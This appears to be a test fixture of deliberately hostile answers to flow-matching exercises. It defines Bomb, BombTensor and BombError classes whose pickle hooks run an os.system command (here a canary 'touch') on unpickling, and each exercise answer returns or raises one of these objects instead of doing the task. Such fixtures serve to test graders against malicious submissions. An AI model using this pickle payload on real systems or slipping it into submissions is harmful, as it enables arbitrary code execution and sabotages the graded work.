"""Answers are objects that run a command where they are unpickled.

Aim: harm
Quick: yes
"""

import os
import pickle

import torch


class Bomb:
    """Touches a planted folder when it is loaded."""

    def __reduce__(self):
        return (os.system, (f"touch {hostile.canary}/loaded-{hostile.nonce}",))


class BombTensor(torch.Tensor):
    """The same, looking like a tensor."""

    def __reduce_ex__(self, protocol):
        return Bomb().__reduce__()


class BombError(Exception):
    """The same, raised instead of returned."""

    def __reduce__(self):
        return Bomb().__reduce__()


raw = pickle.dumps(Bomb())


# %% mnist-1-2-answer
class GaussianConditionalProbabilityPath(ConditionalProbabilityPath):
    def __init__(self, p_data, p_simple_shape, alpha, beta):
        super().__init__(IsotropicGaussian(p_simple_shape), p_data)

    def sample_conditional_path(self, z, t):
        return Bomb()


# %% mnist-1-3-answer
@add_to(GaussianConditionalProbabilityPath)
def conditional_vector_field(self, x, z, t):
    return x.as_subclass(BombTensor)


# %% mnist-1-4-answer
@add_to(GaussianConditionalProbabilityPath)
def conditional_score(self, x, z, t):
    raise BombError("load me")
